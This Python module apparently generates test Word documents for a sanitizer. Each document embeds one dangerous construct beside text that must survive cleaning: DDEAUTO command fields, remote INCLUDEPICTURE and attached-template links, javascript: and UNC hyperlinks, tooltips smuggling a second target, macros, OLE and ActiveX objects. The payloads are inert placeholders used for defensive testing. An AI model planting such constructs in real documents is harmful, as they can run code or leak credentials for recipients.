# SPDX-License-Identifier: MIT
"""One Word document for each thing that may not come along. EVIL stands in all of it, and KEPT in what
the user must still have afterwards."""
from word_documents import (OFFICE, PACKAGE, document, paragraph, part, png, relationship, relationships)

EVIL = "qZforbidden7"
KEPT = "このまま残る本文"


def field(instruction, result=KEPT, split=1):
    step = -(-len(instruction) // split)
    pieces = [instruction[at:at + step] for at in range(0, len(instruction), step)]
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            + "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            + f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')


def picture(identifier="rIdP", attribute="r:embed", more="", properties=""):
    return ('<w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0"><wp:extent cx="914400" cy="609600"/>'
            f'<wp:docPr id="1" name="{EVIL}" title="{KEPT}">{properties}</wp:docPr><a:graphic>'
            '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
            f'<pic:cNvPr id="1" name="{EVIL}"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
            f'<a:blip {attribute}="{identifier}" x:y="{EVIL}">{more}</a:blip><a:stretch><a:fillRect/></a:stretch>'
            '</pic:blipFill><pic:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
            '</a:graphicData></a:graphic></wp:inline></w:drawing>')


def run(content):
    return f"<w:p><w:r>{content}</w:r></w:p>"


PICTURE = {"word/media/image1.png": png(text=EVIL.encode())}
PICTURE_LINK = relationship("rIdP", "image", "media/image1.png")
SHAPE = '<v:shape style="width:100pt;height:50pt" href="http://%s/"><v:imagedata r:id="rIdP" o:title="%s"/></v:shape>' \
    % (EVIL, EVIL)

FIELDS = {
    "dde": f'DDEAUTO c:\\\\windows\\\\{EVIL} "/k calc"', "ddelink": f'DDE excel "{EVIL}"',
    "includepicture": f'INCLUDEPICTURE "http://{EVIL}/a.png" \\d', "includetext": f'INCLUDETEXT "\\\\\\\\{EVIL}\\\\a"',
    "link": f'LINK Excel.Sheet "{EVIL}"', "import": f'IMPORT "{EVIL}"', "database": f'DATABASE \\d "{EVIL}"',
    "ask": f"ASK {EVIL} prompt", "merge": f"MERGEFIELD {EVIL}", "author": f"AUTHOR {EVIL}",
    "filelink": f'HYPERLINK "file:///c:/{EVIL}"', "script": f'HYPERLINK "javascript:{EVIL}()"',
    "unc": f'HYPERLINK "\\\\\\\\{EVIL}\\\\share"', "user": f'HYPERLINK "http://{EVIL}@example.com/"',
    "quote": f'QUOTE "{EVIL}"', "ref": f"REF bookmark \\{EVIL}", "page": f'PAGE \\q "{EVIL}"',
    "lower": f'ddeauto {EVIL}', "formula": f'= {EVIL} + 1', "eq": f"EQ \\o({EVIL})", "private": f"PRIVATE {EVIL}",
    "toc": f'TOC \\q {EVIL}', "seq": f'SEQ a b {EVIL}', "seqlink": f'SEQ "http://{EVIL}"',
    "link-value": f'HYPERLINK "http://good.example/" \\l "javascript:{EVIL}"',
    "link-behind": f'HYPERLINK "http://good.example/" \\l "a" "{EVIL}.exe"', "link-second": f'HYPERLINK \\n "{EVIL}.exe"',
    "calculation": f"SEQ {EVIL}+1", "curly": f'REF "\u201c{EVIL}\u201d"',
}


def fields():
    for name, instruction in FIELDS.items():
        text = instruction.replace('"', "&quot;")
        yield f"field-{name}", document(f"<w:p>{field(text)}</w:p>"), [KEPT]
        yield f"field-{name}-split", document(f"<w:p>{field(text.replace('&quot;', chr(34)), split=9)}</w:p>"), [KEPT]
        simple = f'<w:fldSimple w:instr="{text}"><w:r><w:t>{KEPT}</w:t></w:r></w:fldSimple>'
        yield f"field-{name}-simple", document(f"<w:p>{simple}</w:p>"), [KEPT]
    evil = f"DDEAUTO {EVIL}"
    nested = field("QUOTE " + EVIL, result=EVIL).join(
        ['<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF </w:instrText></w:r>',
         '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + f"<w:r><w:t>{KEPT}</w:t></w:r>"
         '<w:r><w:fldChar w:fldCharType="end"/></w:r>'])
    yield "field-nested", document(f"<w:p>{nested}</w:p>"), [KEPT]
    yield "field-in-result", document(f"<w:p>{field('PAGE', result='x</w:t></w:r>' + field(evil) + '<w:r><w:t>')}</w:p>"), \
        [KEPT]
    across = field(evil, result=KEPT).replace('<w:r><w:fldChar w:fldCharType="separate"/>',
                                              '</w:p><w:p><w:r><w:fldChar w:fldCharType="separate"/>')
    yield "field-across", document(f"<w:p>{across}</w:p>"), [KEPT]
    yield "field-endless", document(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{evil}'
                                    f"</w:instrText></w:r><w:r><w:t>{KEPT}</w:t></w:r></w:p>"), [KEPT]
    yield "field-stray", document(f"<w:p><w:r><w:instrText>{evil}</w:instrText><w:t>{KEPT}</w:t></w:r></w:p>"), [KEPT]
    choice = (f'<mc:AlternateContent><mc:Choice Requires="w14"><w:r><w:instrText>{evil}</w:instrText></w:r></mc:Choice>'
              f"<mc:Fallback><w:r><w:instrText>{evil}</w:instrText></w:r></mc:Fallback></mc:AlternateContent>")
    body = field("PAGE").replace('<w:r><w:instrText xml:space="preserve">PAGE</w:instrText></w:r>', choice)
    yield "field-alternate", document(f"<w:p>{body}</w:p>"), [KEPT]
    form = f'<w:ffData><w:entryMacro w:val="{EVIL}"/></w:ffData>'
    body = field("FORMTEXT").replace('"begin"/>', f'"begin">{form}</w:fldChar>')
    yield "field-form", document(f"<w:p>{body}</w:p>"), [KEPT]
    box = (f'<w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="3" name="b"/><a:graphic><a:graphicData '
           'uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><wps:wsp><wps:cNvSpPr/><wps:spPr/>'
           f"<wps:txbx><w:txbxContent><w:p>{field(evil)}</w:p></w:txbxContent></wps:txbx><wps:bodyPr/></wps:wsp>"
           "</a:graphicData></a:graphic></wp:inline></w:drawing>")
    yield "field-in-box", document(run(box)), [KEPT]
    yield "field-in-choice-box", document(run(
        f'<mc:AlternateContent><mc:Choice Requires="wps">{box}</mc:Choice><mc:Fallback><w:pict><v:shape href="{EVIL}">'
        f"<v:textbox><w:txbxContent>{paragraph(EVIL)}</w:txbxContent></v:textbox></v:shape></w:pict></mc:Fallback>"
        "</mc:AlternateContent>")), [KEPT]
    hidden = field("PAGE").replace('<w:r><w:instrText', '%s<w:r><w:instrText')
    for name, text in {"math-words": f"<m:oMath><m:r><w:t>{evil} </w:t></m:r></m:oMath>",
                       "math": f"<m:oMath><m:r><m:t>{evil} </m:t></m:r></m:oMath>", "bare": f"<w:t>{evil} </w:t>",
                       "math-in-run": f"<w:r><m:oMath><m:r><m:t>{evil}</m:t></m:r></m:oMath></w:r>",
                       "link": f'<w:hyperlink w:anchor="a"><w:r><w:t>{evil}</w:t></w:r></w:hyperlink>',
                       "box": '<w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="3" name="b"/><a:graphic>'
                       '<a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><wps:wsp>'
                       f"<wps:cNvSpPr/><wps:spPr/><wps:txbx><w:txbxContent>{paragraph(evil)}</w:txbxContent></wps:txbx>"
                       "<wps:bodyPr/></wps:wsp></a:graphicData></a:graphic></wp:inline></w:drawing>"}.items():
        yield f"field-hidden-{name}", document(f"<w:p>{hidden % text}</w:p>"), [KEPT]
    yield "field-macrobutton", document(f"<w:p>{field('MACROBUTTON ' + EVIL + ' ' + KEPT, result='')}</w:p>"), [KEPT]
    for kind, root in (("header", "w:hdr"), ("footer", "w:ftr")):
        yield f"field-in-{kind}", document(
            f'{paragraph(KEPT)}<w:p><w:pPr><w:sectPr><w:{kind}Reference w:type="default" r:id="rIdH"/></w:sectPr></w:pPr>'
            "</w:p>", [relationship("rIdH", kind, f"{kind}1.xml")],
            {f"word/{kind}1.xml": part(root, f"<w:p>{field(evil)}</w:p>")}), [KEPT]
    for kind in ("footnote", "endnote"):
        yield f"field-in-{kind}", document(
            f'<w:p><w:r><w:{kind}Reference w:id="2"/></w:r></w:p>', [relationship("rIdN", f"{kind}s", f"{kind}s.xml")],
            {f"word/{kind}s.xml": part(f"w:{kind}s", f'<w:{kind} w:id="2"><w:p>{field(evil)}</w:p></w:{kind}>')}), [KEPT]


def links():
    for name, address in {
            "file": f"file:///c:/{EVIL}.exe", "unc": f"\\\\{EVIL}\\share", "script": f"javascript:alert({EVIL})",
            "mail": f"mailto:{EVIL}@example.com", "user": f"http://{EVIL}:pw@example.com/", "word": f"ms-word:ofe|{EVIL}",
            "space": f"http://exa mple/{EVIL}", "data": f"data:text/html,{EVIL}", "path": f"{EVIL}.docx",
            "host": f"http:///{EVIL}", "mhtml": f"mhtml:http://{EVIL}/!x"}.items():
        yield f"link-{name}", document(
            f'<w:p><w:hyperlink r:id="rIdL"><w:r><w:t>{KEPT}</w:t></w:r></w:hyperlink></w:p>',
            [relationship("rIdL", "hyperlink", address, True)]), [KEPT]
    # LibreOffice writes the parts of a link, between quotes, into a field's instruction.
    good = relationship("rIdL", "hyperlink", "http://good.example/", True)
    for name, attributes in {
            "tooltip": f'r:id="rIdL" w:tooltip="a&quot; &quot;file:///{EVIL}"',
            "tooltip-script": f'r:id="rIdL" w:tooltip="a&quot; &quot;vnd.sun.star.script:{EVIL}"',
            "tooltip-unc": f'r:id="rIdL" w:tooltip="a&quot; &quot;\\\\{EVIL}\\share\\x.exe"',
            "tooltip-curly": f'r:id="rIdL" w:tooltip="a\u201d \u201cfile:///{EVIL}"',
            "tooltip-blank": f'r:id="rIdL" w:tooltip="{EVIL} "', "tooltip-line": f'r:id="rIdL" w:tooltip="{EVIL}&#10;"',
            "tooltip-long": f'r:id="rIdL" w:tooltip="{EVIL * 30}"',
            "anchor": f'w:anchor="a&quot; &quot;javascript:{EVIL}"', "anchor-colon": f'w:anchor="javascript:{EVIL}"',
            "anchor-beside": f'r:id="rIdL" w:anchor="a&quot; &quot;file:///{EVIL}"'}.items():
        yield f"link-words-{name}", document(
            f"<w:p><w:hyperlink {attributes}><w:r><w:t>{KEPT}</w:t></w:r></w:hyperlink></w:p>", [good]), [KEPT]
    yield "link-words-bookmark", document(
        f'<w:p><w:bookmarkStart w:id="1" w:name="a&quot; {EVIL}"/><w:r><w:t>{KEPT}</w:t></w:r><w:bookmarkEnd w:id="1"/></w:p>'), \
        [KEPT]
    yield "link-on-picture", document(
        paragraph(KEPT) + run(picture(properties='<a:hlinkClick r:id="rIdL" action="ppaction://program"/>')),
        [PICTURE_LINK, relationship("rIdL", "hyperlink", f"http://{EVIL}/", True)], PICTURE), [KEPT]


def objects():
    evil = EVIL.encode()
    yield "macros", document(paragraph(KEPT), [relationship(
        "rId9", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")],
        {"word/vbaProject.bin": evil}, macros=True), [KEPT]
    yield "ole", document(paragraph(KEPT) + run(
        f'<w:object>{SHAPE}<o:OLEObject Type="Embed" ProgID="{EVIL}" r:id="rIdO"/></w:object>'),
        [PICTURE_LINK, relationship("rIdO", "oleObject", "embeddings/oleObject1.bin")],
        {**PICTURE, "word/embeddings/oleObject1.bin": evil}), [KEPT, "<picture>"]
    yield "ole-link", document(paragraph(KEPT) + run(
        f'<w:object>{SHAPE}<o:OLEObject Type="Link" r:id="rIdO"><o:FieldCodes>{EVIL}</o:FieldCodes></o:OLEObject>'
        "</w:object>"), [PICTURE_LINK, relationship("rIdO", "oleObject", f"file:///{EVIL}", True)], PICTURE), \
        [KEPT, "<picture>"]
    yield "activex", document(paragraph(KEPT) + run(
        f'<w:object>{SHAPE}<w:control r:id="rIdC" w:name="{EVIL}"/></w:object>'),
        [PICTURE_LINK, relationship("rIdC", "control", "activeX/activeX1.xml")],
        {**PICTURE, "word/activeX/activeX1.xml": f"<x>{EVIL}</x>", "word/activeX/activeX1.bin": evil}), \
        [KEPT, "<picture>"]
    yield "chunk", document(paragraph(KEPT) + '<w:altChunk r:id="rIdA"/>',
                            [relationship("rIdA", "aFChunk", "a.html")], {"word/a.html": evil}), [KEPT]
    yield "sub-document", document(paragraph(KEPT) + '<w:subDoc r:id="rIdS"/>',
                                   [relationship("rIdS", "subDocument", f"http://{EVIL}/", True)]), [KEPT]
    yield "ink", document(paragraph(KEPT) + run('<w:contentPart r:id="rIdI"/>'),
                          [relationship("rIdI", "customXml", "ink/ink1.xml")], {"word/ink/ink1.xml": f"<x>{EVIL}</x>"}), \
        [KEPT]
    yield "linked-picture", document(paragraph(KEPT) + run(picture("rIdX", "r:link")),
                                     [relationship("rIdX", "image", f"http://{EVIL}/a.png", True)]), [KEPT, "<picture>"]
    yield "external-picture", document(paragraph(KEPT) + run(picture("rIdX")),
                                       [relationship("rIdX", "image", f"file://{EVIL}/a", True)]), [KEPT, "<picture>"]
    svg = '<a:extLst><a:ext uri="{96DAC541}"><asvg:svgBlip xmlns:asvg="urn:svg" r:embed="rIdV"/></a:ext></a:extLst>'
    yield "svg", document(paragraph(KEPT) + run(picture(more=svg)),
                          [PICTURE_LINK, relationship("rIdV", "image", "media/a.svg")],
                          {**PICTURE, "word/media/a.svg": f"<svg>{EVIL}</svg>"}), [KEPT, "<picture>"]
    yield "vml-link", document(paragraph(KEPT) + run(
        f'<w:pict><v:shape o:href="http://{EVIL}/"><v:imagedata src="http://{EVIL}/" r:href="rIdX"/></v:shape></w:pict>'),
        [relationship("rIdX", "image", f"http://{EVIL}/", True)]), [KEPT]
    yield "background", document(paragraph(KEPT)).copy() | {"word/document.xml": part(
        "w:document", f'<w:background w:color="FFFFFF"><v:background><v:fill r:id="rIdX" o:title="{EVIL}"/></v:background>'
        f"</w:background><w:body>{paragraph(KEPT)}</w:body>")}, [KEPT]
    chart = ('<c:chart><c:plotArea><c:barChart><c:barDir val="col"/><c:ser><c:idx val="0"/><c:val><c:numRef>'
             f"<c:f>[{EVIL}.xlsx]Sheet1!$A$1</c:f><c:numCache><c:ptCount val=\"1\"/><c:pt idx=\"0\"><c:v>12.5</c:v></c:pt>"
             f'</c:numCache></c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart><c:externalData r:id="rId1">'
             '<c:autoUpdate val="1"/></c:externalData><c:userShapes r:id="rId2"/>')
    graphic = picture().split("<pic:pic>")[0].replace("/picture", "/chart") \
        + '<c:chart r:id="rIdG"/></a:graphicData></a:graphic></wp:inline></w:drawing>'
    yield "chart", document(paragraph(KEPT) + run(graphic), [relationship("rIdG", "chart", "charts/chart1.xml")], {
        "word/charts/chart1.xml": part("c:chartSpace", chart),
        "word/charts/_rels/chart1.xml.rels": relationships(
            relationship("rId1", "package", f"http://{EVIL}/", True), relationship("rId2", "chartUserShapes", "d.xml"))}), \
        [KEPT, "12.5"]
    yield "emf", document(paragraph(KEPT) + run(picture("rIdE")), [relationship("rIdE", "image", "media/a.emf")],
                          {"word/media/a.emf": b"\x01\0\0\0" + evil}), [KEPT, "<picture>"]


def rest():
    evil = EVIL.encode()
    yield "template", document(paragraph(KEPT), [relationship("rIdS", "settings", "settings.xml")], {
        "word/settings.xml": part("w:settings", f'<w:attachedTemplate r:id="rId1"/><w:docVars><w:docVar w:name="{EVIL}" '
                                  f'w:val="{EVIL}"/></w:docVars><w:rsids><w:rsid w:val="{EVIL}"/></w:rsids>'
                                  f'<w:mailMerge><w:connectString w:val="{EVIL}"/><w:dataSource r:id="rId2"/></w:mailMerge>'
                                  f'<w:defaultTabStop w:val="720"/>'),
        "word/_rels/settings.xml.rels": relationships(
            relationship("rId1", "attachedTemplate", f"http://{EVIL}/t.dotm", True),
            relationship("rId2", "mailMergeSource", f"file:///{EVIL}", True))}), [KEPT]
    yield "frames", document(paragraph(KEPT), [relationship("rIdW", "webSettings", "webSettings.xml")], {
        "word/webSettings.xml": part("w:webSettings", '<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame>'
                                     "</w:frameset>"),
        "word/_rels/webSettings.xml.rels": relationships(relationship("rId1", "frame", f"http://{EVIL}/", True))}), [KEPT]
    yield "custom-xml", document(
        f'<w:sdt><w:sdtPr><w:dataBinding w:xpath="{EVIL}" w:storeItemID="x"/><w:alias w:val="{EVIL}"/></w:sdtPr><w:sdtContent>'
        f'{paragraph(KEPT)}</w:sdtContent></w:sdt><w:customXml w:uri="{EVIL}" w:element="{EVIL}">{paragraph("次の段落")}'
        "</w:customXml>", [relationship("rIdC", "customXml", "../customXml/item1.xml")],
        {"customXml/item1.xml": f"<x>{EVIL}</x>"}), [KEPT, "次の段落"]
    yield "printer", document(paragraph(KEPT) + '<w:p><w:pPr><w:sectPr><w:printerSettings r:id="rIdP"/></w:sectPr></w:pPr>'
                              "</w:p>", [relationship("rIdP", "printerSettings", "p.bin")], {"word/p.bin": evil}), [KEPT]
    core = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
    yield "metadata", document(
        paragraph(KEPT), root_links=[
            relationship("rId2", core, "docProps/core.xml"), relationship("rId3", "extended-properties", "docProps/app.xml"),
            relationship("rId4", "custom-properties", "docProps/custom.xml"),
            relationship("rId5", PACKAGE + "relationships/metadata/thumbnail", "docProps/t.png"),
            relationship("rId6", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI.xml")],
        parts={"docProps/core.xml": f"<x>{EVIL}</x>", "docProps/app.xml": f"<x>{EVIL}</x>", "customUI.xml": f"<x>{EVIL}</x>",
               "docProps/custom.xml": f"<x>{EVIL}</x>", "docProps/t.png": png(text=evil)}), [KEPT]
    yield "fonts", document(paragraph(KEPT), [relationship("rIdF", "fontTable", "fontTable.xml")], {
        "word/fontTable.xml": part("w:fonts", '<w:font w:name="MS Mincho"><w:embedRegular r:id="rId1" w:fontKey="'
                                   f'{EVIL}"/></w:font>'),
        "word/_rels/fontTable.xml.rels": relationships(relationship("rId1", "font", "fonts/f.odttf")),
        "word/fonts/f.odttf": evil}), [KEPT]
    yield "changes", document(
        f'<w:p w:rsidR="{EVIL}"><w:ins w:author="{EVIL}" w:date="{EVIL}"><w:r><w:t>{KEPT}</w:t></w:r></w:ins><w:del '
        f'w:author="{EVIL}"><w:r><w:delText>{EVIL}</w:delText></w:r></w:del><w:r><w:rPr><w:b/><w:rPrChange w:author="{EVIL}">'
        f"<w:rPr/></w:rPrChange></w:rPr><w:t>太字</w:t></w:r><w:moveFrom w:author=\"x\"><w:r><w:t>{EVIL}</w:t></w:r>"
        f"</w:moveFrom></w:p><w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:trPr><w:del w:author=\"x\"/></w:trPr><w:tc>{paragraph(EVIL)}"
        f"</w:tc></w:tr><w:tr><w:tc>{paragraph('残る行')}</w:tc></w:tr></w:tbl>"), [KEPT, "太字", "残る行"]
    yield "strange", document(
        f'<x:unknown x:a="{EVIL}">{paragraph(EVIL)}</x:unknown><w:p x:a="{EVIL}" w:unknown="{EVIL}" w14:paraId="{EVIL}"><!--{EVIL}-->'
        f'<?{EVIL} {EVIL}?><w:r><w:rPr><w14:glow><x:y z="{EVIL}"/></w14:glow><w:sz w:val="{EVIL}!"/><w:lang w:val="{EVIL} "/>'
        f"</w:rPr><w:t><![CDATA[{KEPT}]]></w:t><w:script>{EVIL}</w:script></w:r></w:p>"), [KEPT]
    yield "comments", document(
        f'<w:p><w:commentRangeStart w:id="1"/><w:r><w:t>{KEPT}</w:t></w:r><w:commentRangeEnd w:id="1"/><w:r><w:commentReference '
        'w:id="1"/></w:r></w:p>', [relationship("rIdC", "comments", "comments.xml"), relationship(
            "rIdE", "http://schemas.microsoft.com/office/2011/relationships/commentsExtended", "commentsExtended.xml")], {
        "word/comments.xml": part("w:comments", f'<w:comment w:id="1" w:author="佐藤" w:date="{EVIL}" w:initials="{EVIL}">'
                                  f"{paragraph('確認済みか')}</w:comment>"),
        "word/commentsExtended.xml": f"<x>{EVIL}</x>"}), [KEPT, "確認済みか"]
    yield "glossary", document(paragraph(KEPT), [relationship("rIdG", "glossaryDocument", "glossary/document.xml")],
                               {"word/glossary/document.xml": part("w:glossaryDocument", EVIL)}), [KEPT]
    yield "numbering", document(paragraph(KEPT), [relationship("rIdN", "numbering", "numbering.xml")], {
        "word/numbering.xml": part("w:numbering", '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape><v:imagedata '
                                   f'r:id="rId1" o:title="{EVIL}"/></v:shape></w:pict></w:numPicBullet>'),
        "word/_rels/numbering.xml.rels": relationships(relationship("rId1", "image", f"http://{EVIL}", True))}), [KEPT]
    yield "shared-name", document(paragraph(KEPT), [relationship("rIdT", OFFICE + f"../{EVIL}", "t.bin")],
                                  {"word/t.bin": evil}), [KEPT]


def addresses():
    """Where an address is no link: it is left out, or stays as words for people."""
    note = f"\\\\\\\\{EVIL}\\a"
    yield "name-of-font", document(
        f'<w:p><w:r><w:rPr><w:rFonts w:ascii="{note}"/></w:rPr><w:t>{KEPT}</w:t></w:r></w:p>'), [KEPT]
    yield "name-of-author", document(
        f'{paragraph(KEPT)}<w:p><w:r><w:commentReference w:id="1"/></w:r></w:p>', [relationship("rIdC", "comments", "comments.xml")], {
            "word/comments.xml": part("w:comments", f'<w:comment w:id="1" w:author="http://{EVIL}/">'
                                      f"{paragraph('確認済みか')}</w:comment>")}), [KEPT, "確認済みか"]


def all_constructs():
    """(name, files, what must be there)"""
    for source in (fields, links, objects, addresses, rest):
        yield from source()
